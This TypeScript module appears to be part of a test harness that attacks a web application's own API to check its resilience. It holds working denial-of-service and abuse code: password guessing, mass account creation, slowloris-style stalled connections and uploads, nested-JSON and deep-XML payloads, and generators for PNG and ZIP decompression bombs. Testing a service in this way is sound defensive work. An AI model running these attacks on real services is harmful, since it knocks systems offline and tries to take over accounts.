/** Attacks through calls of the API and their bodies. */
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { again, type Attack, type Attacker, WHILE_MS } from './attack.ts';

const KB = 1024;
const MB = KB * KB;

export async function post(
  { limn, cookie }: Attacker,
  path: string,
  body: string | FormData,
  as = cookie,
): Promise<number> {
  const headers: Record<string, string> = { origin: limn.origin, cookie: as };
  if (typeof body === 'string') headers['content-type'] = 'application/json';
  const response = await fetch(`${limn.origin}${path}`, { method: 'POST', headers, body });
  await response.arrayBuffer();
  return response.status;
}

export async function read({ limn, cookie }: Attacker, path: string): Promise<number> {
  const response = await fetch(`${limn.origin}${path}`, { headers: { cookie } });
  await response.arrayBuffer();
  return response.status;
}

export const form = (name: string, bytes: Uint8Array): FormData => {
  const body = new FormData();
  body.append('fileName', name);
  body.append('file', new Blob([bytes as BlobPart]), name);
  return body;
};

/** TCP connections that say something and then nothing. */
export const stalled =
  (count: number, head: (attacker: Attacker) => string, bytes: number): Attack =>
  async (attacker) => {
    const { hostname, port } = new URL(attacker.limn.origin);
    const streams: Socket[] = [];
    const answers = new Map<string, number>();
    for (let i = 0; i < count; i++) {
      const stream = connectTcp(Number(port), hostname);
      stream.on('error', () => undefined);
      stream.on('data', (data: Buffer) => {
        const status = /^HTTP\/1.1 (\d+)/.exec(data.toString('latin1'))?.[1];
        if (status) answers.set(status, (answers.get(status) ?? 0) + 1);
      });
      stream.write(head(attacker));
      if (bytes > 0) stream.write(Buffer.alloc(bytes));
      streams.push(stream);
    }
    attacker.clients.push({ stop: () => streams.forEach((stream) => stream.destroy()) });
    await wait(WHILE_MS);
    const open = streams.filter((stream) => !stream.destroyed && stream.readyState === 'open').length;
    return [`${open} open`, ...[...answers].map(([status, n]) => `${n}× ${status}`)].join(', ');
  };

export const heads = ({ limn }: Attacker, line: string, headers: readonly string[]): string =>
  [line, `Host: ${new URL(limn.origin).host}`, `Origin: ${limn.origin}`, ...headers, ''].join('\r\n');

let people = 0;

export const CALL_ATTACKS: Record<string, Attack> = {
  'guessing passwords': (attacker) =>
    again(40, () =>
      post(
        attacker,
        '/api/account/login',
        JSON.stringify({ account: 'owner@example.org', password: `${people++}` }),
        '',
      ),
    ),
  'making accounts': (attacker) =>
    again(20, () => {
      const account = `stranger${people++}@example.org`;
      return post(
        attacker,
        '/api/account/register',
        JSON.stringify({ account, password: 'secret123', fullName: 'N' }),
        '',
      );
    }),
  'large bodies': (attacker) => {
    const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    return again(20, () => post(attacker, '/api/folder/new', `{"folder":${nested}}`));
  },
  'lists and searches': (attacker) => {
    const words = encodeURIComponent('项目 plan 复核 '.repeat(6));
    return again(50, () => read(attacker, people++ % 2 ? `/api/folder/files?q=${words}` : '/api/folder/files'));
  },
  'headers that never end': stalled(400, (attacker) => heads(attacker, 'GET /api/health HTTP/1.1', ['X-Slow: a']), 0),
  'uploads that stand still': stalled(
    60,
    (attacker) => {
      const boundary = 'b0undary';
      const path = `/api/assets/${attacker.fileId}?link=${attacker.link}`;
      const head = heads(attacker, `POST ${path} HTTP/1.1`, [
        'Content-Length: 20000000',
        `Content-Type: multipart/form-data; boundary=${boundary}`,
        '',
      ]);
      return `${head}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n`;
    },
    8 * MB,
  ),
  'pictures of 130 million pixels': (attacker) => {
    const bomb = png(16_000, 8_000);
    return again(6, () => post(attacker, `/api/assets/${attacker.fileId}?link=${attacker.link}`, form('a.png', bomb)));
  },
  'SVG of 200,000 elements': (attacker) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${'<g><path d="M0 0"/></g>'.repeat(100_000)}</svg>`;
    const bytes = new TextEncoder().encode(svg);
    return again(6, () => post(attacker, `/api/assets/${attacker.fileId}?link=${attacker.link}`, form('a.svg', bytes)));
  },
  'imports of zip bombs': (attacker) => {
    const bytes = zipOf('visio/document.xml', 400 * MB);
    return again(4, () => post(attacker, '/import/flow', form('a.vsdx', bytes)));
  },
  'imports of deep XML': (attacker) => {
    const bytes = new TextEncoder().encode(`<mxfile>${'<a>'.repeat(2_000_000)}`);
    return again(4, () => post(attacker, '/import/flow', form('a.drawio', bytes)));
  },
  'exports as PDF': (attacker) =>
    again(20, () => read(attacker, `/api/export/${attacker.fileId}/pdf?link=${attacker.link}`)),
};

/** A picture of nothing, as large as it says. */
function png(w: number, h: number): Uint8Array {
  const data = deflateSync(Buffer.alloc((w / 8 + 1) * h), { level: 9 });
  const head = Buffer.alloc(13);
  head.writeUInt32BE(w, 0);
  head.writeUInt32BE(h, 4);
  head[8] = 1;
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', head),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** A ZIP of one file of so many zeros. */
export function zipOf(name: string, size: number): Uint8Array {
  const zeros = Buffer.alloc(size);
  const data = deflateRawSync(zeros);
  const fields = Buffer.alloc(22);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(8, 4);
  fields.writeUInt32LE(crc32(zeros), 10);
  fields.writeUInt32LE(data.length, 14);
  fields.writeUInt32LE(size, 18);
  const rest = Buffer.alloc(4);
  rest.writeUInt16LE(name.length, 0);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), fields, rest, Buffer.from(name), data]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02'),
    Buffer.from([20, 0]),
    fields,
    rest,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}
